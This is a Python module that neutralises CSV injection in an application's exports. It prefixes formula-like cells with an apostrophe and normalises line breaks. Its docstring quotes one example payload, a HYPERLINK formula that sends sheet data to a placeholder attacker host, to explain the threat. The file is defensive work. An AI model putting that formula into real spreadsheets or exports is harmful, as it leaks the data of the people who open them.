"""CSV that a spreadsheet opens as text, never as formulas (CSV injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets, quoted or not: a task force named
``=HYPERLINK("http://evil.example/?"&A1,"x")`` would send the sheet's data away from the
Mayor's computer. Such a cell is written with a leading apostrophe, as OWASP's "CSV Injection"
page recommends (also ASVS 4.0 V5.3.10 output encoding for the interpreter that reads it).
Numbers (int, float, Decimal) are left as they are: they are not text and cannot hold a formula.
Line breaks inside a cell are written as ``\n`` (quoted by the writer).

Every CSV export of the application writes through ``writer`` (tests grep for ``csv.writer``).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, TextIO

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as it is safe to write: text starting like a formula gets a leading ``'``."""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return value
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_PREFIXES):
        text = f"'{text}"
    # A bare carriage return is not a line end to the writer (it ends lines with "\n"), so it
    # would go out unquoted and split the row in a spreadsheet: every line break becomes "\n",
    # which the writer quotes.
    return text.replace("\r\n", "\n").replace("\r", "\n")


class SafeWriter:
    """``csv.writer`` with every cell neutralised."""

    def __init__(self, out: TextIO, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO, **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)
